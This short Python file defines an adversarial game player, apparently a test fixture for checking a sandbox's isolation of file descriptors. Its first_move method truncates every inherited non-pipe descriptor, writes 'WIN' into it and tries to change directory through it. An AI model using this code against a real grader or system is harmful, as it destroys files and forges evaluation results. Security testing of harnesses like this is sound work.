"""Uses every descriptor that it was not meant to have."""

import os
import stat


class Attack:
    def first_move(self):
        for end in range(256):
            try:
                if not stat.S_ISFIFO(os.fstat(end).st_mode):
                    os.ftruncate(end, 0)
                    os.pwrite(end, b"WIN", 0)
                    os.fchdir(end)
            except OSError:
                continue
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
